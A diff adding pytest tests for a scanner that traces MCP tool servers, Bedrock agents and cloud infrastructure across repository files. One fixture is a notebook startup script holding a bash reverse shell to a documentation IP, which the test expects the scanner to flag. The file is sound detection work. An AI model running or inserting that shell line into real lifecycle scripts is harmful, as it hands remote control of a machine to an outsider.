@@ -1,0 +1,158 @@
+"""Tools, agents and scripts are found where code puts them: in lists of other files, behind classes and settings."""
+
+# ruff: noqa: E501  files of applications as they are
+
+from itertools import product
+
+import pytest
+
+from upright.app.catalog import units
+from upright.discover.document import Document
+from upright.discover.examine import examine
+from upright.discover.link import link
+from upright.model.item import Item
+
+LISTING = """import { Server } from "@modelcontextprotocol/sdk/server/index.js";
+import { CallToolRequestSchema, ListToolsRequestSchema } from "@modelcontextprotocol/sdk/types.js";
+import { tools } from "./tools/index.js";
+const server = new Server({ name: "desk", version: "1.0.0" }, { capabilities: { tools: {} } });
+server.setRequestHandler(ListToolsRequestSchema, async () => ({ tools: tools.map(({ name, description, inputSchema }) => ({ name, description, inputSchema })) }));
+server.setRequestHandler(CallToolRequestSchema, async (r) => tools.find((one) => one.name === r.params.name).handler(r.params.arguments));
+"""
+LOOPING = """import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
+import { allTools } from "./tools/index.js";
+const server = new McpServer({ name: "desk", version: "1.0.0" });
+for (const tool of allTools) {
+  server.registerTool(tool.name, { description: tool.description, inputSchema: tool.inputSchema }, tool.handler);
+}
+"""
+SPREADING = """import { Server } from "@modelcontextprotocol/sdk/server/index.js";
+import { ListToolsRequestSchema } from "@modelcontextprotocol/sdk/types.js";
+import { pageTool } from "./tools/pages.js";
+const everything = [pageTool];
+const server = new Server({ name: "desk", version: "1.0.0" }, {});
+server.setRequestHandler(ListToolsRequestSchema, async () => ({ tools: everything.map((t) => t.definition) }));
+"""
+PAGES = 'export const pageTool = {\n  name: "read_page", description: "Reads", inputSchema: { type: "object" },\n  handler: async ({ url }) => (await fetch(url)).text(),\n};\n'
+CLASSES = 'export class PageTool implements DeskTool {\n  name = "read_page";\n  description = "Reads";\n  inputSchema = { type: "object" };\n  async execute({ url }) { return (await fetch(url)).text(); }\n}\n'
+ASKING = """import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
+import { Clerk } from "./clerk.js";
+const server = new McpServer({ name: "desk", version: "1.0.0" });
+const clerk = new Clerk();
+server.registerTool("ask_clerk", { description: "Asks the clerk", inputSchema: {} }, async ({ q }) => clerk.ask(q));
+"""
+CLERK = """import { BedrockAgentRuntimeClient, InvokeAgentCommand } from "@aws-sdk/client-bedrock-agent-runtime";
+export class Clerk {
+  client = new BedrockAgentRuntimeClient({});
+  async ask(inputText) {
+    return this.client.send(new InvokeAgentCommand({ agentId: process.env.CLERK_ID, agentAliasId: "A", sessionId: "1", inputText }));
+  }
+}
+"""
+CLERK_PY = """import os
+import boto3
+client = boto3.client("bedrock-agent-runtime")
+def ask(q):
+    return client.invoke_agent(agentId=os.environ["CLERK_ID"], agentAliasId="A", sessionId="1", inputText=q)
+"""
+AGENT = (
+    'resource "aws_bedrockagent_agent" "%s" {\n  agent_name = "%s"\n  foundation_model = "amazon.nova-pro-v1:0"\n}\n'
+)
+
+
+def _read(texts: dict[str, str]) -> tuple[set[tuple[str, str]], list[str], dict[str, str]]:
+    files = [Document(Item("repo", path, len(text), content=text.encode())) for path, text in texts.items()]
+    seen, edges, _ = link([examine(each, units("detectors").values()) for each in files])
+    names: dict[str, set[str]] = {}
+    for each in seen:
+        for key in each.keys:
+            names.setdefault(str(key), set()).add(str(each.name))
+    flaws = {str(each.name): str(each.attributes["startup_flaw"]) for each in seen if "startup_flaw" in each.attributes}
+    ends = ((str(edge.source), str(edge.target)) for edge in edges)
+    agents = [str(each.name) for each in seen if each.location.type == "agent"]
+    return {pair for one, other in ends for pair in product(names.get(one, ()), names.get(other, ()))}, agents, flaws
+
+
+@pytest.mark.parametrize(
+    "texts",
+    [
+        {"src/main.ts": LISTING, "src/tools/index.ts": 'import { pageTool } from "./pages.js";\nexport const tools = [pageTool];\n', "src/tools/pages.ts": PAGES},
+        {"src/main.ts": LISTING, "src/tools/index.ts": 'import { PageTool } from "./pages.js";\nexport const tools = [new PageTool()];\n', "src/tools/pages.ts": CLASSES},
+        {"src/main.ts": LOOPING, "src/tools/index.ts": 'import { webTools } from "./web.js";\nexport const allTools = [...webTools];\n',
+         "src/tools/web.ts": 'import { pageTool } from "./pages.js";\nexport const webTools = [pageTool];\n', "src/tools/pages.ts": PAGES},
+        {"src/main.ts": SPREADING, "src/tools/pages.ts": PAGES},
+    ],
+)  # fmt: skip
+def test_a_server_has_the_tools_that_it_lists_from_other_files(texts: dict[str, str]) -> None:
+    joined, _, _ = _read(texts)
+    assert ("desk", "read_page") in joined
+
+
+def test_a_server_has_no_tools_that_it_does_not_list() -> None:
+    joined, _, _ = _read(
+        {"src/main.ts": LISTING, "src/tools/index.ts": "export const tools = [];\n", "src/tools/pages.ts": PAGES}
+    )
+    assert ("desk", "read_page") not in joined
+
+
+def test_an_agent_that_a_setting_names_is_the_only_one_that_templates_declare() -> None:
+    one = AGENT % ("clerk", "clerk")
+    joined, _, _ = _read({"src/index.ts": ASKING, "src/clerk.ts": CLERK, "infra/main.tf": one})
+    assert {("ask_clerk", "CLERK_ID"), ("CLERK_ID", "amazon.nova-pro-v1:0")} <= joined  # by the key that both have
+    both = one + AGENT % ("cook", "cook")
+    joined, agents, _ = _read({"src/index.ts": ASKING, "src/clerk.ts": CLERK, "infra/main.tf": both})
+    assert ("ask_clerk", "CLERK_ID") not in joined
+    assert "CLERK_ID" not in agents
+    joined, _, _ = _read({"clerk.py": CLERK_PY, "infra/main.tf": one})
+    assert ("CLERK_ID", "amazon.nova-pro-v1:0") in joined
+
+
+LAB = """from pathlib import Path
+import aws_cdk as cdk
+from aws_cdk import aws_sagemaker as sagemaker
+HERE = {here}
+class Lab(cdk.Stack):
+    def __init__(self, scope, construct_id):
+        super().__init__(scope, construct_id)
+        setup = sagemaker.CfnNotebookInstanceLifecycleConfig(self, "Setup", on_start=[
+            sagemaker.CfnNotebookInstanceLifecycleConfig.NotebookInstanceLifecycleHookProperty(content=cdk.Fn.base64({content}))])
+        sagemaker.CfnNotebookInstance(self, "Lab", notebook_instance_name="lab", instance_type="ml.t3.medium", role_arn="arn:aws:iam::111122223333:role/lab",
+            lifecycle_config_name=setup.attr_notebook_instance_lifecycle_config_name)
+"""
+BOOT = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
+
+
+@pytest.mark.parametrize(
+    ("here", "content", "path"),
+    [
+        ('Path(__file__).parent / "scripts"', '(HERE / "boot.sh").read_text()', "cdk/lab/scripts/boot.sh"),
+        (
+            "Path(__file__).resolve().parents[1]",
+            '(HERE / "scripts" / "boot.sh").read_text(encoding="utf-8")',
+            "cdk/scripts/boot.sh",
+        ),
+        (
+            "os.path.dirname(__file__)",
+            'open(os.path.join(HERE, "scripts", "boot.sh")).read()',
+            "cdk/lab/scripts/boot.sh",
+        ),
+    ],
+)
+def test_scripts_that_code_reads_beside_itself_are_those_that_a_notebook_starts_with(
+    here: str, content: str, path: str
+) -> None:
+    _, _, flaws = _read({"cdk/lab/stack.py": LAB.format(here=here, content=content), path: BOOT})
+    assert "lab" in flaws
+
+
+def test_an_action_group_that_an_agent_is_given_joins_it_to_no_knowledge_base() -> None:
+    stack = (
+        'import { bedrock } from "@cdklabs/generative-ai-cdk-constructs";\n'
+        'const kb = new bedrock.VectorKnowledgeBase(this, "Tips", { embeddingsModel: bedrock.BedrockFoundationModel.TITAN_EMBED_TEXT_V2_1024 });\n'
+        'const agent = new bedrock.Agent(this, "Clerk", { name: "clerk", instruction: "You help.", foundationModel: bedrock.BedrockFoundationModel.AMAZON_NOVA_PRO_V1 });\n'
+        'agent.addActionGroup(new bedrock.AgentActionGroup({ name: "claims", description: "Closes claims", enabled: true }));\n'
+    )
+    joined, _, _ = _read({"lib/stack.ts": stack})
+    assert ("clerk", "Tips") not in joined
+    joined, _, _ = _read({"lib/stack.ts": f"{stack}agent.addKnowledgeBase(kb);\n"})
+    assert ("clerk", "Tips") in joined
